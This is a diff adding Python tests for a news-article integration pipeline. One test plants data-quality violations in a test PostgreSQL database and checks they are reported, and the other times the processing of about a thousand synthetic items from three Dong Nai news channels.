+def test_check_quality_reports_planted_violations(db: str) -> None:
+    two_month_dataset(db)
+    run(db, *MARCH)
+    run(db, *APRIL)
+    assert check_quality(db) == []
+    conn = connect(db)
+    with conn, conn.cursor() as cur:
+        cur.execute("""UPDATE integration.article_source SET is_primary = false
+                        WHERE story_key = (SELECT min(story_key) FROM integration.article) AND is_primary""")
+    conn.close()
+    failures = check_quality(db)
+    assert len(failures) == 1 and failures[0].startswith("one_primary_per_article: 1 ")
+    conn = connect(db)
+    with conn, conn.cursor() as cur:
+        cur.execute("""DELETE FROM integration.article_source WHERE story_key = (
+                         SELECT max(story_key) FROM integration.article)""")
+        cur.execute("DELETE FROM integration.article WHERE story_key = "
+                    "(SELECT max(story_key) FROM integration.article)")
+    conn.close()
+    names = {f.split(":")[0] for f in check_quality(db)}
+    assert names == {"one_primary_per_article", "approved_item_in_one_article", "load_batch_reconciles"}
+
+
+# --- performance ----------------------------------------------------------------------------------
+
+
+def test_a_month_of_three_channels_processes_in_seconds(db: str) -> None:
+    sources = [("dongnai_party", "tin-hoat-dong", "/news/tin-hoat-dong/p-{n}.html"),
+               ("dongnai_gov", "kinh-te", "/vi/news/kinh-te/g-{n}.html"),
+               ("baodongnai", "xa-hoi", "/xa-hoi/202405/b-{n}")]
+    rng = random.Random(5)
+    conn = connect(db)
+    values = []
+    n = 0
+    for source_id, section, path in sources:
+        for _ in range(300):
+            n += 1
+            when = local(2024, 5, 1) + timedelta(minutes=rng.randrange(31 * 24 * 60))
+            t, s, b = distinct_story(when, topic=rng.choice(("politics", "economy", "society")), lo=120, hi=400)
+            values.append((source_id, BASES[source_id] + path.format(n=n), t, s, b, when, section))
+    # about 12 % republished on another channel a day later
+    for source_id, _url, t, s, b, when, _ in rng.sample(values, 108):
+        target, section, path = rng.choice([x for x in sources if x[0] != source_id])
+        n += 1
+        values.append((target, BASES[target] + path.format(n=n), t, s, b[:-1] if len(b) > 3 else b,
+                       when + timedelta(days=1), section))
+    with conn, conn.cursor() as cur:
+        from psycopg2.extras import execute_values
+
+        execute_values(cur, """INSERT INTO staging.item (source_id, page_url, status, canonical_url, title, sapo,
+                                   body_text, body_html, published_at, section, item_type, content_hash)
+                               VALUES %s""",
+                       [(sid, url, "staged", url, t, s, "\n\n".join(b), "".join(f"<p>{p}</p>" for p in b),
+                         when, section, "tin", hashlib.sha256(url.encode()).hexdigest())
+                        for sid, url, t, s, b, when, section in values])
+    conn.close()
+    began = time.perf_counter()
+    counts = run(db, local(2024, 5, 1), local(2024, 6, 3))
+    elapsed = time.perf_counter() - began
+    assert counts["normalized"] == len(values) == 1008
+    assert counts["items_rekeyed"] >= 0 and counts["new"] >= 900 - 5
+    assert elapsed < 20, f"{elapsed:.1f} s"
+    assert check_quality(db) == []
+    print(f"\n{len(values)} items processed in {elapsed:.2f} s: {counts}")
